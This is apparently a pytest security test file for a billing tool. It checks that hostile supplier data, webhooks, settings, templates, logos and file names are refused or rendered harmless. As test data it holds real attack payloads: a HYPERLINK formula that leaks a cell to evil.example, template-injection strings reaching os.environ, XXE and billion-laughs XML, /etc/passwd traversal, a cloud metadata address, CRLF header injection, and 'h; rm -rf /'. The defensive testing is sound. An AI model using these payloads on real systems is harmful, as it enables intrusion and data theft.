"""Hostile input: who could write what, what it tries, and what it gets. SECURITY.md refers to these cases."""

import contextlib
import csv
import io
import json
import os
import resource
import socket
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import select

from billing_job.cli import cli
from billing_job.config.mapping import load_mapping
from billing_job.config.settings import Settings
from billing_job.config.settings_file import load_settings
from billing_job.core.document import Kind
from billing_job.core.errors import ConfigError, DocumentError, OutputError
from billing_job.core.files.csv_writer import defused
from billing_job.core.files.local import LocalFiles
from billing_job.core.files.manifest import Folder
from billing_job.core.redaction import Redactor
from billing_job.didfarm.parsing import read_sip_trunks
from billing_job.didfarm.webhooks import is_genuine, read_event, signature_of
from billing_job.didfarm.wire import read_transaction
from billing_job.didfarm.wire_json import canonical_json, parse_json
from billing_job.documents.drawing_limits import memory_limit, time_limit
from billing_job.documents.einvoice.ubl import ubl_xml
from billing_job.documents.email_text import mail_texts
from billing_job.documents.html import document_pages
from billing_job.documents.logo import logo_data_url
from billing_job.documents.pdf.make_pdf import pdf_bytes
from billing_job.documents.templates import load_templates
from billing_job.ledger.database import transaction
from billing_job.ledger.mirror import LedgerMirror
from billing_job.ledger.tables import wallet_rows
from tests.support.fakes import Office, office
from tests.support.mail_month import MONTH, mail_office, opened
from tests.support.mail_server import mail_server
from tests.support.paths import DOCS
from tests.support.sample_documents import document, standard_lines

READING = Settings.model_validate({"seller": {"name": "N", "country": "NL"}}).api.transactions
RTL_OVERRIDE = "\u202e"
LONG = "x" * 5_000
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
MARKUP = '<script>alert(1)</script><img src="http://evil.example/x.png">'
ROW: dict[str, Any] = {
    "id": 90122,
    "type": "renewal",
    "amount": -150,
    "currency": "EUR",
    "description": "Monthly rental +31201234567",
    "reference_type": "number",
    "reference_id": 42,
    "created_at": "2026-10-05T14:30:00Z",
}


# ---- API answers: the supplier, or whoever sits between

WIRE_CASES: dict[str, tuple[dict[str, Any], str]] = {
    "an amount of infinity": ({"amount": "Infinity"}, "amount"),
    "an amount in exponents": ({"amount": "1e9"}, "amount"),
    "an amount of other digits": ({"amount": "\u0661\u0662.50"}, "amount"),
    "an amount with a thousand digits": ({"amount": "9" * 1_000}, ""),
    "an amount that is a list": ({"amount": [-150]}, "amount"),
    "an amount that is true": ({"amount": True}, "amount"),
    "half a millionth": ({"amount": "-1.5000005"}, "amount"),
    "an id that leads upward": ({"id": "../../etc/passwd"}, ""),
    "an id with a line break": ({"id": "1\n2"}, "id"),
    "an id with NUL": ({"id": "1\x002"}, ""),
    "an id of 5,000 characters": ({"id": LONG}, "id"),
    "an id that turns the writing round": ({"id": f"1{RTL_OVERRIDE}2"}, "id"),
    "a moment of year 99999": ({"created_at": "99999-01-01T00:00:00Z"}, "created_at"),
    "a moment that is a number": ({"created_at": 1e308}, "created_at"),
    "half a surrogate pair": ({"description": "\ud800"}, ""),
    "a reference that is an object": ({"reference_id": {"$gt": ""}}, ""),
    "a currency that is markup": ({"currency": MARKUP}, ""),
}


@pytest.mark.parametrize("case", WIRE_CASES)
def test_a_hostile_row_is_kept_and_bills_nobody_wrongly(case: str) -> None:
    """No row raises; one that cannot be read says which field, keeps its raw text, and has no invented value."""
    changed, unreadable = WIRE_CASES[case]
    row = read_transaction(parse_json(json.dumps(ROW | changed)), READING)
    assert (unreadable in row.problem) if unreadable else True
    assert json.loads(row.raw)
    assert row.transaction_id
    assert row.transaction_id.isprintable()
    assert "\0" not in row.description + row.reference_id
    assert isinstance(row.micros, int | None)
    if "amount" in row.problem:
        assert row.micros is None


@pytest.mark.parametrize(
    "body", ["[" * 100_000, "{" * 50_000, '{"a":' * 5_000, "NaN", "\ufeff", "", "1" * 5_000_000 + "x", "\x00"]
)
def test_a_hostile_body_is_no_json(body: str) -> None:
    """Nesting that breaks parsers, constants JSON does not have, garbage: a ValueError, retried and reported."""
    with pytest.raises(ValueError, match=r".*"):
        parse_json(body)


def test_hostile_descriptions_reach_no_spreadsheet_and_no_page(tmp_path: Path) -> None:
    """Formulas, markup, NUL and direction marks in the supplier's texts: billed, and harmless in CSV, page and XML."""
    descriptions = [FORMULA, MARKUP, f"a{RTL_OVERRIDE}b", "a\0b", LONG, "@SUM(1)", "\t=1", "{{ 7 * 7 }}", "%s%n{0}"]
    with office(tmp_path) as (reseller, _):
        rows = _descriptions_of(reseller, descriptions)
        ran = reseller.type("run", "--offline", "--json", "--workers", "1")
        assert ran.code in (0, 3), ran.err
    written = b"".join(content for name, content in reseller.files().items() if name.endswith(".csv"))
    cells = [cell for line in csv.reader(io.StringIO(written.decode())) for cell in line]
    assert sum("HYPERLINK" in cell for cell in cells) > 0
    assert all(cell == defused(cell) or cell.startswith("'") for cell in cells)
    assert "\0" not in written.decode()
    for name, content in reseller.files().items():
        if name.endswith(".xml"):
            assert b"<script>" not in content
    assert rows


def _descriptions_of(reseller: Office, descriptions: list[str]) -> int:
    """Mirror the wallet, then give the month's rows these descriptions, as a supplier that edits its list could."""
    assert reseller.type("sync").code == 0
    with opened(reseller.config, reseller.clock) as job:
        with transaction(job.engine) as connection:
            raws = list(connection.execute(select(wallet_rows.c.raw)).scalars())
        changed = []
        for index, raw in enumerate(raws):
            row = parse_json(raw) | {"description": descriptions[index % len(descriptions)]}
            changed.append(read_transaction(parse_json(canonical_json(row)), READING))
        LedgerMirror(job.engine, reseller.clock).save(changed)
    return len(changed)


def test_a_name_cut_inside_an_emoji_stops_nothing() -> None:
    """Half a surrogate pair in a trunk's name or an event is U+FFFD where it enters; a cut name stopped all billing."""
    (trunk,), _ = read_sip_trunks(parse_json('{"data": [{"id": 7, "uuid": "trk_1", "name": "Acme \\ud83d"}]}'))
    assert trunk.name == "Acme \ufffd"
    event = read_event(json.dumps(EVENT | {"event": "number.\ud83d"}).encode())
    assert event.event == "number.\ufffd"


# ---- Webhook events: the supplier, or whoever found the address

EVENT = {"event": "number.activated", "timestamp": "2026-10-05T14:30:00Z", "data": {"number": "+31201234567"}}
EVENT_CASES: dict[str, tuple[bytes, bool]] = {
    "a signature of another secret": (json.dumps(EVENT).encode(), True),
    "an event that is a list": (b"[]", False),
    "an event without a name": (json.dumps(EVENT | {"event": ""}).encode(), False),
    "a name that is an object": (json.dumps(EVENT | {"event": {"$ne": 1}}).encode(), False),
    "a moment that is no moment": (json.dumps(EVENT | {"timestamp": "soon"}).encode(), False),
    "a moment of year 99999": (json.dumps(EVENT | {"timestamp": "99999-01-01T00:00:00Z"}).encode(), False),
    "data that is a text": (json.dumps(EVENT | {"data": "x"}).encode(), False),
    "a number that is a path": (json.dumps(EVENT | {"data": {"number": "../../etc/passwd"}}).encode(), True),
    "an order that is an object": (json.dumps(EVENT | {"data": {"order_id": {"a": 1}}}).encode(), True),
    "bytes that are no text": (b"\xff\xfe{}", False),
    "brackets without end": (b"[" * 100_000, False),
}


@pytest.mark.parametrize("case", EVENT_CASES)
def test_a_hostile_event_is_refused_or_only_text(case: str) -> None:
    """Without the secret nothing is genuine; with it, an event is read as text or refused with a reason."""
    body, readable = EVENT_CASES[case]
    assert not is_genuine(body, signature_of(body, "another secret"), "the secret")
    assert not is_genuine(body, "", "the secret")
    assert not is_genuine(body, signature_of(body, ""), "")
    if not readable:
        with pytest.raises(ValueError, match=r".+"):
            read_event(body)
        return
    event = read_event(body)
    assert all(isinstance(text, str) for text in (event.number, event.order_id, event.trunk_uuid, event.country))


# ---- The files of the configuration: a colleague, an export, a typing error

CLIENT_CASES = {
    "../../etc/passwd": "column client_id",
    "a/b": "column client_id",
    "a\\b": "column client_id",
    ".hidden": "column client_id",
    "-rf": "column client_id",
    "a\0b": "column client_id",
    f"a{RTL_OVERRIDE}b": "column client_id",
    LONG: "column client_id",
    FORMULA.replace('"', ""): "column client_id",
    "{{7*7}}": "column client_id",
    "CON": "",
    "acme.": "",
}


@pytest.mark.parametrize("client_id", CLIENT_CASES)
def test_a_client_id_never_leads_out_of_the_folder(client_id: str, tmp_path: Path) -> None:
    """An id that could be a path, an option or a formula is refused by row and column; a plain one is safe."""
    _config(tmp_path, f"{client_id},Name,NL\n")
    refused = CLIENT_CASES[client_id]
    if refused:
        with pytest.raises(ConfigError, match=f"clients.csv, row 2, {refused}"):
            load_mapping(tmp_path, ["standard"])
    else:
        assert load_mapping(tmp_path, ["standard"]).clients[0].client_id == client_id
        name = Folder(LocalFiles(tmp_path)).checked(f"invoices/DRAFT-{client_id}.pdf")
        assert (tmp_path / name).parent == tmp_path / "invoices"


@pytest.mark.parametrize(
    "row",
    [
        b'acme,"unclosed\n',
        b"acme,\xff\xfe,NL\n",
        b"acme,a,NL," + b"x," * 100 + b"\n",
        b"acme," + b"x" * 200_000 + b",NL\n",
        b'acme,"' + b"\n" * 10_000 + b'",Nowhere\n',
    ],
    ids=["open quote", "not UTF-8", "too many cells", "a cell of 200 kB", "10,000 line breaks"],
)
def test_a_hostile_csv_is_reported_or_read(row: bytes, tmp_path: Path) -> None:
    """Broken quoting, encodings and sizes end in one sentence with the file's name, never in a traceback."""
    _config(tmp_path, "")
    with (tmp_path / "clients.csv").open("ab") as file:
        file.write(row)
    with pytest.raises(ConfigError) as caught:
        load_mapping(tmp_path, ["standard"])
    assert all("clients.csv" in problem for problem in caught.value.problems)


def _config(folder: Path, rows: str) -> None:
    (folder / "clients.csv").write_text("client_id,name,country\n" + rows, encoding="utf-8")
    (folder / "trunks.csv").write_text("trunk,client_id\n", encoding="utf-8")


TOML_CASES = {
    "a number that leads upward": '[numbering]\ninvoice = "../../{year}-{number:05d}"',
    "a number that opens an attribute": '[numbering]\ninvoice = "{year.__class__}{number:05d}"',
    "a number of a million digits": '[numbering]\ninvoice = "{year}{number:01000000d}"',
    "a number that reaches inside": '[numbering]\ninvoice = "{year}-{number.real}"',
    "a number of two billion digits": '[numbering]\ninvoice = "{year}-{number:2000000000d}"',
    "a number inside a number": '[numbering]\ninvoice = "{year}-{number:{year}d}"',
    "a zone that is a path": '[billing]\ntimezone = "../../../etc/passwd"',
    "an address that is a file": '[api]\nbase_url = "file:///etc/passwd"',
    "a user in the address": '[api]\nbase_url = "https://me:hunter2@didfarm.com/api/v1"',
    "a key in the address": '[api]\nbase_url = "https://didfarm.com/api/v1?key=hunter2"',
    "a key in the file": '[api]\nkey = "df_live_secret"',
    "a colour that loads": '[design]\naccent_colour = "red;background:url(//evil.example)"',
    "a subject that reaches inside": '[mail]\nhost = "h"\nfrom = "a@b.example"\nsubject = "{client.__class__}"',
    "a subject of two lines": '[mail]\nhost = "h"\nfrom = "a@b.example"\nsubject = "a\\r\\nBcc: c@d.example"',
    "a sender of two lines": '[mail]\nhost = "h"\nfrom = "a@b.example\\nBcc: c@d.example"',
    "a host that is a command": '[mail]\nhost = "h; rm -rf /"\nfrom = "a@b.example"',
    "a password in the file": '[mail]\nhost = "h"\nfrom = "a@b.example"\npassword = "secret"',
    "a database elsewhere": '[storage]\ndatabase_url = "mysql://evil.example/x"',
    "infinity percent": '[[plans]]\nname = "p"\n[[plans.rules]]\nmodel = "markup"\npercent = inf',
    "a table that is a list": "billing = [1, 2]",
    "ten thousand brackets": "x = " + "[" * 10_000,
}


@pytest.mark.parametrize("case", TOML_CASES)
def test_hostile_settings_are_refused(case: str, tmp_path: Path) -> None:
    """Each is refused with the file's name before anything is opened; a secret in the wrong place is not repeated."""
    path = tmp_path / "config" / "billing.toml"
    path.parent.mkdir()
    text = TOML_CASES[case] + "\n"
    seller = '[seller]\nname = "N"\ncountry = "NL"\n'
    path.write_text(text + seller if text.startswith(("billing", "x")) else seller + text)
    with pytest.raises(ConfigError, match=r"billing\.toml") as caught:
        load_settings(path)
    assert "hunter2" not in str(caught.value)


# ---- Templates: a designer, a template from the internet

TEMPLATE_CASES = {
    "the class of a value": "{{ view.__class__.__mro__ }}",
    "the class of a text": "{{ ''.__class__.__base__.__subclasses__() }}",
    "globals of a helper": "{{ cycler.__init__.__globals__.os.environ }}",
    "globals of another": "{{ lipsum.__globals__ }}",
    "a format that opens": "{{ '{0.__class__}'.format(view) }}",
    "a map of attributes": "{% for n in [view] | map(attribute='__class__') %}{{ n }}{% endfor %}",
    "a file of the machine": "{% include '/etc/passwd' %}",
    "a file upward": "{% include '../config/billing.toml' %}",
    "a loop without end": "{% for n in range(10 ** 12) %}x{% endfor %}",
    "a change of a value": "{{ view.rows.append(1) }}",
    "a division by nothing": "{{ 1 / 0 }}",
    "a call into the void": "{{ view.title['x'] }}",
    "itself": "{% include 'invoice.html' %}",
}


@pytest.mark.parametrize("case", TEMPLATE_CASES)
def test_a_hostile_template_stays_in_its_sandbox(case: str, tmp_path: Path) -> None:
    """It can neither read the program's inside nor a file; the document and the template are named."""
    (tmp_path / "invoice.html").write_text("<p>" + TEMPLATE_CASES[case] + "</p>")
    with pytest.raises(DocumentError, match=r"INV-2026-00001.*"):
        next(document_pages(document(standard_lines()), load_templates(tmp_path)))


def test_a_link_leads_out_of_no_template_folder(tmp_path: Path) -> None:
    """What a link shows elsewhere is neither included in a page nor taken for a template; links inside are files."""
    (tmp_path / "secret.html").write_text("the content of another file")
    mine = tmp_path / "templates"
    mine.mkdir()
    (mine / "invoice.html").write_text("{% include 'part.html' %}")
    (mine / "real.html").write_text("<p>mine</p>")
    (mine / "part.html").symlink_to("real.html")
    assert "mine" in next(document_pages(document(standard_lines()), load_templates(mine)))
    (mine / "part.txt").symlink_to(tmp_path / "secret.html")
    other = tmp_path / "others"
    mine.rename(other)
    (other / "invoice.html").write_text("{% include 'part.txt' %}")
    with pytest.raises(DocumentError, match=r"part\.txt: leads out of"):
        next(document_pages(document(standard_lines()), load_templates(other)))
    (other / "credit_note.html").symlink_to(tmp_path / "secret.html")
    with pytest.raises(ConfigError, match=r"credit_note\.html: leads out of"):
        load_templates(other)


@pytest.mark.sqlite_file("a server's lock is its own")
def test_a_lock_that_is_a_link_overwrites_nothing(tmp_path: Path) -> None:
    """Who may write beside the ledger cannot have another file of its owner emptied."""
    with office(tmp_path / "office") as (reseller, _):
        victim = tmp_path / "victim"
        victim.write_text("mine")
        (reseller.folder / "billing.db.run-lock").symlink_to(victim)
        ran = reseller.type("sync")
        assert (ran.code, "symbolic link" in ran.err) == (1, True)
    assert victim.read_text() == "mine"


@pytest.mark.parametrize(
    "address",
    [
        "file:///etc/passwd",
        "http://127.0.0.1:{port}/",
        "http://169.254.169.254/latest/meta-data/",
        "../../../../etc/passwd",
        "file:///templates/../../../etc/passwd",
        "ftp://evil.example/x",
    ],
)
@pytest.mark.parametrize(
    "markup", ['<img src="{}"/>', '<link rel="stylesheet" href="{}"/>', '<p style="background:url({})">x</p>']
)
def test_a_page_loads_nothing_from_elsewhere(address: str, markup: str, tmp_path: Path) -> None:
    """No file of the machine and no address of the network is opened while a page of a user's is laid out."""
    (tmp_path / "invoice.html").write_text("a template of the user's own")
    with socket.create_server(("127.0.0.1", 0)) as listener:
        listener.settimeout(0.05)
        body = markup.format(address.format(port=listener.getsockname()[1]))
        html = f"<html><head><title>x</title></head><body>{body}</body></html>"
        with pytest.raises(DocumentError):
            pdf_bytes(html, load_templates(tmp_path), day=document([]).issue_date, embedded=(), what="INV-1")
        with contextlib.suppress(DocumentError):
            pdf_bytes(html, load_templates(None), day=document([]).issue_date, embedded=(), what="INV-1")
        with pytest.raises(TimeoutError):
            listener.accept()


@pytest.mark.filterwarnings("ignore::pytest.PytestUnraisableExceptionWarning")
def test_a_template_that_never_ends_is_stopped(tmp_path: Path) -> None:
    """Loops in loops, each of them short: the document is named, and the others are drawn.

    A first signal may fall into a callback of the garbage collector, where Python prints and drops what is raised.
    """
    loop = "{% for a in range(90000) %}{% for b in range(90000) %}{% endfor %}{% endfor %}"
    (tmp_path / "invoice.html").write_text(loop)
    with pytest.raises(DocumentError, match=r"INV-1: drawing it took more than 0\.2 seconds"), time_limit(0.2, "INV-1"):
        next(document_pages(document(standard_lines()), load_templates(tmp_path)))


def test_a_template_that_grows_for_ever_is_stopped(tmp_path: Path) -> None:
    """A text that doubles sixty times: out of memory within the bound, and the process lives on with what it had."""
    (tmp_path / "invoice.html").write_text(
        "{% set n = namespace(x='a') %}{% for i in range(60) %}{% set n.x = n.x ~ n.x %}{% endfor %}"
    )
    before = resource.getrlimit(resource.RLIMIT_AS)
    with pytest.raises((MemoryError, DocumentError)) as stopped, memory_limit(256 << 20):
        next(document_pages(document(standard_lines()), load_templates(tmp_path)))
    assert "emory" in repr(stopped.value)
    assert resource.getrlimit(resource.RLIMIT_AS) == before
    assert len(bytes(512 << 20)) == 512 << 20


def test_a_style_sheet_imports_nothing_from_elsewhere(tmp_path: Path) -> None:
    """A forbidden @import in a style sheet of the user's is told by file and address, as a page's own is."""
    (tmp_path / "invoice.css").write_text('@import "http://evil.example/x.css"; p { color: red }')
    with pytest.raises(DocumentError, match=r"invoice\.css: http://evil\.example/x\.css: only data:.*style sheet"):
        pdf_bytes("<p>x</p>", load_templates(tmp_path), day=document([]).issue_date, embedded=(), what="INV-1")


XML_CASES = {
    "billion laughs": '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><svg>&b;</svg>',
    "a file as an entity": '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg><text>&a;</text></svg>',
    "a script": '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "a picture from elsewhere": '<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/x.png"/></svg>',
    "markup that is not SVG": "<html/>",
}


@pytest.mark.parametrize("case", XML_CASES)
def test_a_hostile_logo_is_refused(case: str, tmp_path: Path) -> None:
    """The only XML that is read from outside expands no entity and refers to nothing."""
    path = tmp_path / "logo.svg"
    path.write_text(XML_CASES[case])
    with pytest.raises(ConfigError, match=r"logo\.svg"):
        logo_data_url(path)


# ---- Names as paths

NAMES = [
    "../../etc/passwd",
    "/etc/passwd",
    "invoices/../../x",
    "invoices//x",
    "a\0b",
    "",
    ".",
    "..",
    ".manifest.json",
    "x.",
    "x ",
    "x" * 5_000,
    f"INV{RTL_OVERRIDE}fdp.exe",
    "a\nb",
    "a\\b",
    "C:x",
    "~root",
    "$(id)",
]


@pytest.mark.parametrize("name", NAMES)
def test_no_name_leads_out_of_the_folder(name: str, tmp_path: Path) -> None:
    """Whatever becomes a file name is checked where it becomes one."""
    with pytest.raises(OutputError, match="cannot be a file name"):
        Folder(LocalFiles(tmp_path)).write(name, b"x")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "name", [MARKUP, f"Acme {RTL_OVERRIDE}moc.live", "Acme\0\x01\x1b[31m", LONG, RTL_OVERRIDE * 50, "Ａ＝１"]
)
def test_a_hostile_client_name_is_only_text(name: str) -> None:
    """On the page, in XML and in the e-mail a name is text: no markup, no control character, no turned line."""
    lines = standard_lines()
    invoice = replace(document(lines), client=replace(document(lines).client, name=name))
    templates = load_templates(None)
    html = next(document_pages(invoice, templates))
    texts = mail_texts(invoice, templates, subject="{kind} {number} {client}", attached=())
    xml = ubl_xml(invoice, templates).decode()
    assert "<script>" not in html + texts.html + xml
    for text in (html, texts.subject, texts.text, xml):
        assert not any(character in text for character in ("\0", "\x01", "\x1b", RTL_OVERRIDE))
    assert invoice.kind is Kind.INVOICE


# ---- Secrets, files and modes

SECRET = "df_live_7b1c99"


def test_no_secret_in_arguments_output_files_or_errors(tmp_path: Path) -> None:
    """No option takes a key or password, and neither log nor output nor ledger ever holds one."""
    options = [option for command in cli.commands.values() for p in command.params for option in p.opts]
    words = ("key", "password", "secret", "token")
    assert {o for o in options if any(w in o for w in words) and not o.endswith("-file")} == set()
    redactor = Redactor()
    redactor.add(SECRET)
    assert SECRET not in redactor.clean(f"Authorization: Bearer {SECRET}, again {SECRET}")
    with mail_server() as server:
        sender = mail_office(tmp_path, server, 1)
        sender.environment = {"SMTP_USER": "someone", "SMTP_PASSWORD": SECRET}
        ran = sender.type("-vv", "send", "--month", MONTH, "--json")
    assert SECRET not in ran.out + ran.err
    for path in tmp_path.rglob("*"):
        assert not path.is_file() or SECRET.encode() not in path.read_bytes()


@pytest.mark.sqlite_file("a server's files are its own")
def test_what_is_written_is_the_owners_alone(tmp_path: Path) -> None:
    """Folders 0700, files 0600, whatever the umask says."""
    before = os.umask(0)
    try:
        with office(tmp_path / "office") as (reseller, _):
            assert reseller.run().code == 0
            assert reseller.type("backup", str(tmp_path / "copy.db")).code == 0
    finally:
        os.umask(before)
    written = [
        *(tmp_path / "office" / "output").rglob("*"),
        *(tmp_path / "office").glob("billing.*"),
        tmp_path / "copy.db",
    ]
    assert len(written) > 10
    for path in written:
        assert path.stat().st_mode & 0o077 == 0, path


def test_a_key_file_others_can_read_is_named(tmp_path: Path) -> None:
    """A key that every user of the machine can read still works, with a warning that says what to do."""
    with office(tmp_path) as (reseller, _):
        key_file = tmp_path / "key"
        key_file.write_text(reseller.environment.popitem()[1])
        reseller.replace("billing.toml", "[api]\n", f'[api]\nkey_file = "{key_file}"\n')
        key_file.chmod(0o644)
        warned = reseller.type("sync")
        key_file.chmod(0o600)
        silent = reseller.type("sync")
    assert (warned.code, silent.code) == (0, 0)
    assert f"chmod 600 {key_file}" in warned.err
    assert "chmod" not in silent.err


def test_the_table_of_cases_is_whole() -> None:
    """docs/hostile-input.md names every case of this file."""
    table = (DOCS / "hostile-input.md").read_text(encoding="utf-8")
    missing = [
        case
        for case in [*WIRE_CASES, *EVENT_CASES, *TOML_CASES, *TEMPLATE_CASES, *XML_CASES]
        if f"| {case} |" not in table
    ]
    assert missing == []
    assert table.count("`test_") > 60
